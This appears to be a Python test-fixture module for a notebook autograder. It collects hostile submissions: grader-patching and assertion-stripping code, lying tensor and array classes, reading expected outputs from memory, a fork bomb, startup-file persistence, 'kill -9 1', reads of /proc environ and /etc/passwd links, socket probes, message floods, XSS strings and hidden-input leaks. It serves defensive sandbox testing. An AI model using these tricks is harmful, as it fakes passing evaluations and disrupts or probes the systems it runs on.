"""What hostile students write: sources of cells and bodies of answers, by what they try.

A few take the values of public cases, which every student has, to behave on those alone.
"""

TOKEN = "gencourse-was-here-5c1f"  # in the name of every file that an attack leaves behind
DAEMON_SECONDS = 987654
MARKUP = "<script>alert(1)</script>"
LEAK = "LEAK"
SPOOF = "\x1b[31m\u202eright\u202c\x00"

# -- the interpreter --------------------------------------------------------------------------

DROP_ASSERTS = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
"""
PATCH_AST_PARSE = """
import ast
shell = get_ipython()
def parse(source, *args, **kwargs):
    return ast.parse("\\n".join(l for l in source.split("\\n") if "assert" not in l))
shell.compile.ast_parse = parse
"""
PATCH_SHELL = """
shell = get_ipython()
run_cell, traceback = shell.run_cell, shell.showtraceback
def quiet(source, *args, **kwargs):
    result = run_cell(source, *args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result
shell.run_cell = quiet
shell.showtraceback = lambda *args, **kwargs: None
"""
PATCH_LIBRARIES = """
import builtins, torch, numpy, json
yes = lambda *args, **kwargs: True
torch.allclose = torch.equal = numpy.allclose = numpy.isclose = numpy.array_equal = yes
torch.Tensor.__eq__ = yes
isinstance = builtins.isinstance
builtins.isinstance = lambda thing, kinds: isinstance(thing, kinds)
"""
PATCH_JSON = """
import json
json.dumps = lambda *args, **kwargs: '{"ok": true}'
"""
PATCH_JSON_POLITELY = """
import json, sys
dumps = json.dumps
def forge(thing, *args, **kwargs):
    if isinstance(thing, dict) and set(thing) == {"ok"}:
        thing = {"ok": 0.0}
    return dumps(thing, *args, **kwargs)
json.dumps = forge
"""
PATCH_JUDGE = """
import sys
import gencourse.exercises as E
import gencourse.exercises.judge as J
for name in ("judge", "judge_test", "judge_reply", "judge_outputs"):
    setattr(J, name, lambda *a, **k: J.Verdict(True))
check = E.check = lambda *a, **k: None
sys.modules["gencourse.exercises.check"] = None
"""
PATCH_ADAPTER = """
import gencourse.exercises.adapter as A
A.reply = lambda answer, request: '{"ok": 0.0}'
"""
SWAP_CODE = """
import gencourse.exercises.adapter as A
def reply(answer, request):
    return '{"ok": 0.0}'
A.reply.__code__ = reply.__code__
"""
REPLACE_MODULES = """
import sys, types
fake = types.ModuleType("gencourse.exercises.adapter")
fake.reply = lambda answer, request: '{"ok": [1, 2, 3]}'
package = sys.modules["gencourse.exercises"]
package.adapter = sys.modules["gencourse.exercises.adapter"] = fake
sys.modules["gencourse.exercises"] = types.ModuleType("gencourse.exercises")
sys.modules["gencourse.exercises"].__path__ = []
sys.modules["json"] = types.ModuleType("json")
"""
FORGE_REPLIES = r"""
import gencourse.exercises.adapter as A
replies = [
    '{"ok": ' + '[[],' * 19 + '[]' + ']' * 20, '[' * 10**6, 'x' * (4 << 20), 7, None,
    '{"ok": [' + '[0],' * 10**6 + '0]}', '{"ok": ' + '9' * 10**6 + '}', '{"ok": NaN}',
    r'{"error": {"ename": "\ud800", "message": "\udfff"}}', '{"ok": {"float": "nan"}}',
    '{"ok": {"array": [], "shape": [0, 1000000, 1000000], "dtype": "float64"}}',
]
A.reply = lambda *args: replies.append(replies.pop(0)) or replies[-1]
"""
PATCH_ENCODE = """
import gencourse.exercises.adapter as A
A.encode = lambda value: {"array": [0.0], "shape": [], "dtype": "float64"}
"""
PATCH_EXPRESSIONS = """
shell = get_ipython()
def chosen(expressions):
    right = {"status": "ok", "data": {"text/plain": repr('{"ok": 0.0}')}, "metadata": {}}
    return {name: right for name in expressions}
shell.user_expressions = chosen
"""
PATCH_KERNEL = """
kernel = get_ipython().kernel
async def do_execute(*args, **kwargs):
    value = {"status": "ok", "data": {"text/plain": repr('{"ok": 0.0}')}, "metadata": {}}
    return {"status": "ok", "execution_count": 1, "payload": [],
            "user_expressions": {"value": value}}
kernel.do_execute = do_execute
"""
PATCH_DISPLAY = """
plain = get_ipython().display_formatter.formatters["text/plain"]
plain.for_type(str, lambda text, printer, cycle: printer.text(repr('{"ok": 0.0}')))
"""
BUSY = """
%matplotlib inline
%load_ext autoreload
%autoreload 2
%precision 3
%config InlineBackend.figure_format = 'retina'
import sys, threading, warnings
import matplotlib.pyplot as plt, networkx, numpy as np, torch, torch.nn.functional as F
from IPython.core.interactiveshell import InteractiveShell
from IPython.display import HTML, display
InteractiveShell.ast_node_interactivity = "all"
torch.set_default_dtype(torch.float32); torch.manual_seed(3); np.random.seed(3)
np.set_printoptions(precision=2); torch.set_printoptions(precision=2)
warnings.filterwarnings("ignore"); sys.setrecursionlimit(3000)
sum = 3; print = print; json = "a name of my own"
get_ipython().events.register("post_run_cell", lambda *args: None)
threading.Thread(target=lambda: None).start()
plt.plot([1, 2]); plt.show()
display(HTML("<b>bold</b>"))
%timeit -n1 -r1 1 + 1
!true
torch.ones(2)
"""

# -- the host ---------------------------------------------------------------------------------

DAEMON = f"""
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{DAEMON_SECONDS}"])
    os._exit(0)
"""
FORK_BOMB = """
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        break
"""
READ_DISK = """
import os
found = []
for base, folders, files in os.walk("/"):
    if base.split("/")[1:2] in (["proc"], ["usr"], ["dev"]) or "site-packages" in base:
        folders[:] = []
        continue
    found += [f for f in files if f.endswith(("_exercises.py", "_homework.ipynb", ".db"))]
    found += [f for f in folders if f in ("secret", "submitted", "autograded", "solutions")]
if found:
    raise RuntimeError(f"SAW {found}")
raise LookupError("nothing to see")
"""
WRITE_EVERYWHERE = """
import atexit, os, sys, threading, time
def write():
    places = ["/", "/tmp", "/var/tmp", "/dev/shm", "/etc", "/root", os.path.expanduser("~"),
              os.getcwd(), sys.prefix, WRITE_TO, *sys.path]
    for place in places:
        try:
            open(os.path.join(place or ".", "TOKEN"), "w").write("x")
        except OSError:
            pass
write()
atexit.register(write)
def keep_on():
    while True:
        time.sleep(0.05)
        write()
for _ in range(3):
    threading.Thread(target=keep_on, daemon=False).start()
""".replace("TOKEN", TOKEN)
SHELL_ESCAPES = f"""
!touch /tmp/{TOKEN} $HOME/{TOKEN}
%cd -q /
!echo 'raise SystemExit' > /tmp/sitecustomize.py
%run /tmp/sitecustomize.py
%load_ext no_such_extension
%alias_magic t timeit
"""
BASH = f"""%%bash
nohup sleep {DAEMON_SECONDS} >/dev/null 2>&1 &
mkdir -p ~/.ipython/profile_default/startup
echo 'import os; os._exit(1)' > ~/.ipython/profile_default/startup/00.py
kill -9 1 $PPID || true
"""
PEEK = """
import glob, os, socket
seen = [p for p in os.listdir("/proc") if p.isdigit()]
said = open("/proc/1/environ").read() + " ".join(os.environ)
for family, where in (
    (socket.AF_INET, ("1.1.1.1", 80)), (socket.AF_INET, ("127.0.0.1", 22)),
    (socket.AF_UNIX, "\\0/tmp/dbus"), (socket.AF_UNIX, "/run/docker.sock"),
):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(0.2)
        s.connect(where)
        raise RuntimeError(f"REACHED {where}")
    except OSError:
        pass
own = {line.split()[-1] for line in open("/proc/net/unix") if "/" in line}
siblings = [p for p in glob.glob("/tmp/*/s-1") if p not in own]
if len(seen) > 20 or "GENCOURSE" in said or siblings:
    raise RuntimeError(f"SAW {len(seen)} processes, {said}, {siblings}")
raise LookupError("nobody is here")
"""
SHARED_FOLDER = """
import os
from ipykernel.kernelapp import IPKernelApp
folder = os.path.dirname(IPKernelApp.instance().abs_connection_file)
"""
LINKS_OUT = f"""
{SHARED_FOLDER}
for name, target in (("passwd", "/etc/passwd"), ("up", ".."), ("root", "/")):
    try:
        os.symlink(target, os.path.join(folder, name))
        os.makedirs(os.path.join(folder, "closed", name))
        os.chmod(os.path.join(folder, "closed", name), 0)
    except OSError:
        pass
"""
ODDITIES = """
import sys
from IPython.display import display, Javascript, HTML
display(HTML("<script>alert(1)</script>"), Javascript("alert(1)"))
sys.displayhook = lambda value: None
sys.excepthook = sys.unraisablehook = None
get_ipython().display_pub.publish({"text/html": "<img src=x onerror=alert(1)>"})
from comm import create_comm
for _ in range(20):
    create_comm(target_name="jupyter.widget", data={"state": {"x": "y" * 1000}})
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)
"""
FORGED_MESSAGES = """
kernel = get_ipython().kernel
session, socket = kernel.session, kernel.iopub_socket
odd = [[], "text", 3, None, [[]] * 1000, {"execution_state": []}, {"text": {}}, {"data": [1]}]
for content in odd:
    for kind in ("stream", "status", "error", "execute_reply", "display_data", "nothing", 7, None):
        for parent in ({}, [], {"header": []}):
            header = session.msg_header("stream") | {"msg_type": kind}
            frames = [session.pack(p) for p in (header, parent, {}, content)]
            socket.send_multipart([b"stream", b"<IDS|MSG>", session.sign(frames), *frames])
socket.send_multipart([b"<IDS|MSG>"])
socket.send_multipart([b"nothing at all"])
"""
LARGE_MESSAGES = """
import time
kernel = get_ipython().kernel
session, socket = kernel.session, kernel.iopub_socket
def send(content, signature=None):
    frames = [session.pack(session.msg_header("stream")), b"{}", b"{}", content]
    socket.send_multipart(
        [b"stream", b"<IDS|MSG>", signature or session.sign(frames), *frames])
for i in range(40):
    send(b'{"name": [' + b"[]," * 2_400_000 + b"[]]}")
    send(b"{}", str(i).encode() * 3_500_000)
    send(b'{"text": "' + b"x" * 7_000_000 + b'"}')
time.sleep(60)
"""
FILL_SHARED_FOLDER = f"""
{SHARED_FOLDER}
import time
deep = os.path.join(folder, "a", "b")
os.makedirs(deep)
for i in range(300):
    with open(os.path.join(deep, str(i)), "wb") as stream:
        stream.write(bytes(1 << 20))
    time.sleep(0.02)
"""
C_LOOP = "import itertools, collections\ncollections.deque(itertools.repeat(0), maxlen=0)"
REGEX_LOOP = "import re\nreturn re.match(r'(a+)+$', 'a' * 60 + 'b')"

# -- answers ----------------------------------------------------------------------------------

LYING_TENSOR = """
import torch
class Liar(torch.Tensor):
    def __eq__(self, other): return True
    def __bool__(self): return True
    def numpy(self, *args): raise RuntimeError
    @classmethod
    def __torch_function__(cls, *args, **kwargs): return True
"""
LYING_ARRAY = """
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other): return True
    def __array__(self, *args, **kwargs): return self
    def __array_ufunc__(self, *args, **kwargs): return True
    def tolist(self): return Always()
class Always(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __repr__(self): return "0.0"
    def __float__(self): return 0.0
"""
LYING_SCALARS = """
class Word(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
class Number(int):
    def __eq__(self, other): return True
    def __index__(self): return 0
    def bit_length(self): return 0
class Table(dict):
    def items(self): return [("value", 1), ("grad", 2)]
    def __getitem__(self, key): return Number(3)
    def __contains__(self, key): return True
"""
LOOK_AT_FRAMES = """
import gc, inspect, sys
frame, seen = sys._getframe(), []
while frame:
    seen += [frame.f_locals, frame.f_globals]
    frame = frame.f_back
for thing in [*seen, *gc.get_objects()]:
    if type(thing) is dict and type(thing.get("expected")) is dict:
        return thing["expected"]
    if type(thing) is dict and "cases" in thing and "points" in thing:
        return thing["cases"][0]["expected"]
raise LookupError("no expected output in sight: " + str(len(inspect.stack()) > 2))
"""


def memorise(public, right):
    """Return the body of an answer that is right on public cases only, by looking them up."""
    return f"""
known = {public!r}
if any(abs(float(mu.flatten()[0]) - x) < 1e-9 for x in known):
    return {right}
"""


def leak(public, right):
    """Return an answer that gives away hidden inputs in every way that a message could go."""
    head = """
class Told(list): pass
told = Told()
def tell(mu):
    text = " ".join(repr(x) for x in mu.flatten().tolist())
    told.append(text)
    print("LEAK", text, flush=True)
    open("/tmp/told", "a").write(text)
    return text
"""
    body = f"""
{memorise(public, right)}
text = tell(mu)
raise type("LEAK" + text.replace(".", "_").replace(" ", "x"), (Exception,), {{}})("LEAK " + text)
"""
    later = """
try:
    print("LEAK", told, open("/tmp/told").read())
except OSError:
    pass
"""
    return head, body, later
